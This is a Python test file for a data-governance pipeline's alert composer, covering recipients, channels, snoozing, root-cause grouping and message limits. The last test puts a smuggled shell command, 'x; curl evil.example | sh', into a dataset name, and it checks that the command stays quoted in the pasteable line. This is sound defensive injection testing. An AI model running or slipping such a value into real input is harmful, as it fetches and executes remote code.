from __future__ import annotations

import shlex
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from governance_pipeline.charter.project import Project
from governance_pipeline.response import history
from governance_pipeline.response.compose import compose
from governance_pipeline.response.incidents import Change
from governance_pipeline.testing import DATASET, a_charter, a_contract, a_graph, a_playbook
from governance_pipeline.vocabulary.entity import Entity
from governance_pipeline.vocabulary.incident import Alert
from governance_pipeline.vocabulary.risk import RiskScore
from tests.response.nights import THE_DATASET, Story, at, day, found
from tests.response.projects import a_project

BUREAU = Entity.dataset("lending.bureau_scores")
GRAPH = a_graph(
    ("dataset:lending.bureau_scores", f"dataset:{DATASET}"),
    ("column:lending.bureau_scores#score", f"column:{DATASET}#ratio"),
    (f"dataset:{DATASET}", "dataset:lending.features"),
    (f"column:{DATASET}#ratio", "model:mortgage_approval"),
    (f"column:{DATASET}#spare", "column:lending.features#spare"),
)


def alerts_of(changes: list[Change], project: Project | None = None, night: int = 1) -> list[Alert]:
    return compose(day(night), changes, project or a_project(), GRAPH, [])


def tell(*measurements, project: Project | None = None, roots=None) -> list[Alert]:
    return alerts_of(Story().run(day(1), measurements, roots), project)


def test_one_breach_is_one_message_with_all_that_its_owner_needs() -> None:
    risk = RiskScore(day(1), THE_DATASET, 47.6, "high")
    model_risk = RiskScore(day(1), Entity.model("mortgage_approval"), 61.0, "high")
    changes = Story().run(day(1), [found("fail", sentence="The newest row is 52 hours old; 26 are allowed.")])
    (alert,) = compose(day(1), changes, a_project(), GRAPH, [risk, model_risk])
    incident = changes[0].incident
    assert (alert.recipient, alert.channel, alert.incident) == ("ada", "log", incident.id)
    assert alert.subject == "[lending] lending.incomes: data is late or missing"
    for told in (
        "Hello Ada Okafor,",
        "The newest row is 52 hours old; 26 are allowed.",
        "the night of 2026-03-04; tonight is the first night",
        "model mortgage_approval: owner Ben Moreau, risk 61 of 100 (high)",
        "dataset lending.features: owner Pia Lind",
        "1. Look at the job or vendor feed",
        "governance check lending.incomes",
        f"governance incident ack {incident.id}",
        "https://governance.example.org/assets/lending/incomes\n",
        "playbook P-1: Recency",
        "risk of lending.incomes: 48 of 100 (high)",
    ):
        assert told in alert.body
    assert alert.body.index("model mortgage_approval") < alert.body.index("dataset lending.features")


def test_a_breach_of_a_column_names_only_what_reads_that_column() -> None:
    (alert,) = tell(found("fail", indicator="drift", facet="ratio@mortgage_approval"))
    assert "model mortgage_approval" in alert.body
    assert "lending.features" not in alert.body


def test_nobody_is_told_of_what_is_merely_kept_or_closed_unless_the_playbook_says_so() -> None:
    story = Story(a_playbook(recency={"close_after": 1}))
    told = []
    for number, outcome in enumerate(("fail", "fail", "pass", "fail"), 1):
        told.append(len(alerts_of(story.run(day(number), [found(outcome, night=day(number))]), night=number)))
    assert told == [1, 0, 0, 1]


def test_a_resolution_is_told_where_the_playbook_asks_for_it() -> None:
    playbook = a_playbook(recency={"close_after": 1}, alerts={"on": ["resolved"]})
    project, story = a_project(playbook=playbook), Story(playbook)
    assert alerts_of(story.run(day(1), [found("fail")]), project) == []
    (alert,) = alerts_of(story.run(day(2), [found("pass", night=day(2))]), project, 2)
    assert alert.subject == "[lending] lending.incomes: fixed: data is late or missing"
    assert "FIXED" in alert.body
    assert "WHAT TO DO" not in alert.body


def test_a_consequence_is_told_with_its_root_and_not_by_itself() -> None:
    cause, effect = found("fail", entity=BUREAU), found("fail", sentence="Incomes are 30 hours old.")
    alerts = tell(cause, effect, roots={cause.key: cause, effect.key: cause})
    (alert,) = alerts
    assert "lending.bureau_scores" in alert.subject
    assert "also failing because of it: Incomes are 30 hours old." in alert.body


def test_what_is_let_go_by_its_resolved_root_is_told_to_its_owner_then() -> None:
    story = Story(a_playbook(recency={"close_after": 1}))
    cause, effect = found("fail", entity=BUREAU), found("fail")
    story.run(day(1), [cause, effect], {cause.key: cause, effect.key: cause})
    changes = story.run(day(2), [found("pass", night=day(2), entity=BUREAU), found("fail", night=day(2))])
    (alert,) = alerts_of(changes, night=2)
    assert alert.recipient == "ada"
    assert alert.subject.endswith(": still: data is late or missing")
    assert "What it was told with is fixed, and it still fails" in alert.body


def test_a_snoozed_incident_is_silent_until_the_snooze_is_over() -> None:
    story = Story()
    story.run(day(1), [found("fail")])
    story.keep(history.snoozed(story.only, "ada", at(day(1)), day(3)))
    told = [alerts_of(story.run(day(n), [found("fail", night=day(n))]), night=n) for n in (2, 3, 4, 5)]
    assert [len(alerts) for alerts in told] == [0, 0, 1, 0]
    assert "the snooze is over and it still fails" in told[2][0].body


def test_a_snoozed_incident_is_resolved_in_silence() -> None:
    playbook = a_playbook(recency={"close_after": 1}, alerts={"on": ["opened", "resolved"]})
    for until, told in ((day(3), 0), (None, 1)):
        story = Story(playbook)
        story.run(day(1), [found("fail")])
        if until:
            story.keep(history.snoozed(story.only, "ada", at(day(1)), until))
        changes = story.run(day(2), [found("pass", night=day(2))])
        assert len(alerts_of(changes, a_project(playbook=playbook), 2)) == told


def test_failures_of_the_same_column_are_one_message() -> None:
    alerts = tell(
        found("fail", indicator="quality", facet="incomes.ratio.nullValues"),
        found("fail", indicator="quality", facet="schema_change"),
        found("fail", indicator="drift", facet="ratio@mortgage_approval"),
    )
    (alert,) = alerts
    assert alert.subject.endswith("(+1 more)")
    assert all(f"{name} of lending.incomes" in alert.body for name in ("quality", "drift"))


def test_failures_of_unlike_things_are_messages_of_their_own() -> None:
    alerts = tell(found("fail"), found("fail", indicator="consent", facet="model_training"))
    assert len({alert.key for alert in alerts}) == 2


def test_failures_of_two_datasets_are_never_one_message() -> None:
    assert len(tell(found("fail"), found("fail", entity=BUREAU))) == 2


def test_mail_goes_to_every_active_member_and_a_chat_room_is_written_to_once() -> None:
    charter = a_charter(
        alert_channels=["mail", "chat"],
        people=[
            {"id": "sam", "name": "Sam Reyes", "mail": "sam@example.org"},
            {"id": "ada", "name": "Ada Okafor", "mail": "ada@example.org"},
            {"id": "ben", "name": "Ben Moreau", "mail": "ben@example.org"},
            {"id": "old", "name": "Olga Dahl", "mail": "old@example.org", "until": "2026-03-03"},
        ],
        teams=[{"id": "data-team", "name": "Data team", "members": ["ada", "ben", "old"]}],
    )
    story = Story(owner="data-team")
    alerts = alerts_of(story.run(day(1), [found("fail")]), a_project(charter=charter))
    assert {(a.recipient, a.channel) for a in alerts} == {
        ("ada", "mail"),
        ("ben", "mail"),
        ("data-team", "chat"),
    }


def test_a_team_with_a_channel_of_its_own_is_told_there() -> None:
    teams = [{"id": "data-team", "name": "Data team", "members": ["ada", "ben"], "channel": "chat"}]
    project = a_project(charter=a_charter(alert_channels=["log"], teams=teams))
    (alert,) = alerts_of(Story(owner="data-team").run(day(1), [found("fail")]), project)
    assert (alert.recipient, alert.channel) == ("data-team", "chat")


@pytest.mark.parametrize("owner", ["", "gone", "nobody-we-know"])
def test_where_the_owner_is_gone_the_steward_is_told_and_told_why(owner: str) -> None:
    people = [
        {"id": "sam", "name": "Sam Reyes", "mail": "sam@example.org"},
        {"id": "gone", "name": "Gil Bret", "mail": "gil@example.org", "until": "2026-03-03"},
    ]
    project = a_project(charter=a_charter(alert_channels=["log"], people=people, teams=[]))
    (alert,) = alerts_of(Story(owner=owner).run(day(1), [found("fail")]), project)
    assert alert.recipient == "sam"
    assert "You get this as the steward, because lending.incomes has no active owner" in alert.body


def test_without_any_channel_the_console_is_told() -> None:
    (alert,) = tell(found("fail"), project=a_project(alert_channels=[]))
    assert alert.channel == "console"


def test_keys_are_the_same_when_composed_again_and_differ_by_route_and_opening() -> None:
    story = Story(a_playbook(recency={"close_after": 1}))
    project = a_project(alert_channels=["mail", "log"])
    keys = []
    for number, outcome in enumerate(("fail", "pass", "fail", "pass", "fail"), 1):
        changes = story.run(day(number), [found(outcome, night=day(number))])
        once, again = (alerts_of(changes, project, number) for _ in range(2))
        assert once == again
        keys.extend(alert.key for alert in once)
    assert len(keys) == len(set(keys)) == 6


HOSTILE = st.text(
    st.sampled_from(list("ab.\n\r\t\0\x1b\u202e\u2028\u200b<>&\"'[]{}/%@:#$`\ud800é漢")),
    min_size=1,
    max_size=300,
)


@settings(max_examples=200, deadline=None)
@given(name=HOSTILE, sentence=HOSTILE)
def test_no_name_or_sentence_breaks_out_of_its_line(name: str, sentence: str) -> None:
    entity = Entity.dataset(name)
    contract = a_contract(dataset=name)
    project = a_project(contracts={name: contract})
    measurement = found("fail", entity=entity, sentence=sentence)
    (alert,) = alerts_of(Story().run(day(1), [measurement]), project)
    assert len(alert.subject) < 100
    for text in (alert.subject, alert.body.replace("\n", "")):
        assert not [c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]
    plain_body = tell(found("fail", sentence="x"))[0].body
    headings = [line for line in alert.body.splitlines() if line.isupper() and not line.startswith(" ")]
    assert headings == [
        line for line in plain_body.splitlines() if line.isupper() and not line.startswith(" ")
    ]
    assert alert.key.isascii()


def test_a_message_does_not_grow_without_end() -> None:
    many = [found("fail", indicator="quality", facet=f"rule{n}") for n in range(400)]
    (alert,) = tell(*many)
    assert "... and 390 more" in alert.body
    assert len(alert.body) < 8000


def test_a_model_is_told_without_a_dataset_command() -> None:
    entity = Entity.model("mortgage_approval")
    bias = found("fail", entity=entity, indicator="bias", facet="race: black/white")
    (alert,) = tell(bias)
    assert "gap between groups of people" in alert.subject
    assert "governance check" not in alert.body
    assert "https://governance.example.org/assets/models/mortgage_approval\n" in alert.body


def test_what_nobody_owns_downstream_is_said() -> None:
    project = a_project()
    contracts = dict(project.contracts)
    contracts["lending.features"] = replace(contracts["lending.features"], owner=None)
    (alert,) = tell(found("fail"), project=replace(project, contracts=contracts))
    assert "dataset lending.features: nobody owns it" in alert.body


def test_the_command_to_paste_runs_nothing_but_itself() -> None:
    name = "x; curl evil.example | sh"
    (alert,) = tell(found("fail", entity=Entity.dataset(name)), project=a_project(contracts={}))
    (line,) = (line for line in alert.body.splitlines() if "governance check" in line)
    assert shlex.split(line) == ["governance", "check", name]
